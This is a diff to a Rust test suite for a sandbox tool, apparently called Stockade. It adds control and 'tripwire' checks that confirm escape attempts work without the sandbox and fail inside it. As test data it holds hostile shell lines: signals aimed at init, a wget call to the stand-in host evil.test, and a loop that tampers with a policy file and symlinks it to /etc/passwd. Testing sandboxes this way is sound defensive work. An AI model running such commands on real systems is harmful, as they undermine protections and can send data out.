@@ -4,13 +4,7 @@
 
 use std::{fs, os::unix::fs::PermissionsExt};
 
-use stockade_testkit::{Finished, Mode, Stockade};
-
-fn in_every_mode(build: impl Fn(Stockade) -> Stockade, script: &str, check: impl Fn(Mode, &Finished)) {
-    for mode in Mode::available() {
-        check(*mode, &build(Stockade::new(*mode)).sh(script));
-    }
-}
+use stockade_testkit::{Finished, Mode, Stockade, in_every_mode};
 
 /// The lines that a script printed as `key value`.
 fn said(run: &Finished, key: &str) -> String {
@@ -48,12 +42,15 @@ fn nothing_of_init_launcher_or_supervisor_can_be_read() {
 #[test]
 fn signals_reach_nothing_that_matters() {
     let script = "kill -KILL 1; kill -STOP 1; kill -TERM 1; kill -KILL 2; kill -KILL -1; sleep 0.1; \
+                  sleep 60 & kill -KILL $!; wait $!; echo child $?; \
                   wget -qO- http://evil.test/ 2>/dev/null; echo alive yes; exit 3";
     in_every_mode(
         |s| s,
         script,
         |mode, run| {
             assert_eq!((said(run, "alive").as_str(), run.code()), ("yes", 3), "{mode:?} {run:?}");
+            assert_eq!(said(run, "child").as_str(), "137", "control: its own it can signal {mode:?} {run:?}");
+            assert!(run.events.one("no_policy").host() == Some("evil.test"), "the door answers still {mode:?} {run:?}");
         },
     );
 }
@@ -84,6 +81,9 @@ fn the_command_holds_nothing() {
             assert_eq!(said(run, "fds").trim(), "0 1 2 3", "{mode:?}");
         },
     );
+    let bare = Stockade::new(Mode::Rootless).unwrapped().sh(script);
+    assert_eq!(said(&bare, "NoNewPrivs").as_str(), "0", "tripwire: without Stockade {bare:?}");
+    assert_ne!(said(&bare, "CapBnd").as_str(), "0000000000000000", "tripwire: {bare:?}");
 }
 
 #[test]
@@ -108,6 +108,12 @@ fn rights_of_root_are_not_to_be_had() {
             assert_eq!(did, ["control"], "{mode:?} {run:?}");
         },
     );
+    // Only what an ordinary user can do anyway is tried without Stockade: nobody wants the rest to work.
+    let bare = Stockade::new(Mode::Rootless)
+        .unwrapped()
+        .sh("unshare -U true && echo did userns; unshare -Urn true && echo did netns");
+    let allowed = std::fs::read_to_string("/proc/sys/user/max_user_namespaces").unwrap_or_default();
+    assert!(allowed.trim() == "0" || bare.text() == "did userns\ndid netns\n", "tripwire: {bare:?}");
 }
 
 #[test]
@@ -144,6 +150,8 @@ fn the_environment_weakens_nothing() {
         assert!(run.text().lines().any(|l| l == "0"), "the caller's secrets stay outside: {mode:?} {run:?}");
         assert_eq!(said(run, "works").as_str(), "yes", "{mode:?}");
     });
+    let bare = weak(Stockade::new(Mode::Rootless).unwrapped()).sh(script);
+    assert!(said(&bare, "proxy").contains("192.0.2.1") && bare.text().contains("\n1\n"), "tripwire: {bare:?}");
 }
 
 #[test]
@@ -159,21 +167,30 @@ fn a_policy_that_says_nothing_allows_nothing() {
             assert_eq!(run.events.one("no_policy").host(), Some("any.test"), "{mode:?}");
         });
     }
+    in_every_mode(
+        |s| s.arg("--allow").arg("any.test:80"),
+        ask,
+        |mode, run| assert_eq!(said(run, "status").as_str(), "502", "tripwire: allowed, and nowhere {mode:?} {run:?}"),
+    );
 }
 
 #[test]
 fn steering_files_in_the_workspace_cannot_be_changed() {
+    let attack = "for f in policy.yaml; do echo x >> $f; rm -f $f; mv $f other; ln -sf /etc/passwd $f; cp /dev/null $f; done 2>/dev/null; \
+                  touch mine && echo works yes";
     for mode in Mode::available() {
         let run = Stockade::new(*mode);
         let policy = run.work().join("policy.yaml");
         fs::write(&policy, "version: 1\n").unwrap();
-        let done = run.arg("--policy").arg(&policy).sh(
-            "for f in policy.yaml; do echo x >> $f; rm -f $f; mv $f other; ln -sf /etc/passwd $f; cp /dev/null $f; done 2>/dev/null; \
-             touch mine && echo works yes",
-        );
+        let done = run.arg("--policy").arg(&policy).sh(attack);
         assert_eq!(said(&done, "works").as_str(), "yes", "{mode:?} {done:?}");
         assert_eq!(fs::read_to_string(&policy).unwrap(), "version: 1\n", "{mode:?}");
     }
+    let bare = Stockade::new(Mode::Rootless).unwrapped();
+    let policy = bare.work().join("policy.yaml");
+    fs::write(&policy, "version: 1\n").unwrap();
+    let done = bare.sh(attack);
+    assert_ne!(fs::read_to_string(&policy).unwrap_or_default(), "version: 1\n", "tripwire: {done:?}");
 }
 
 #[test]
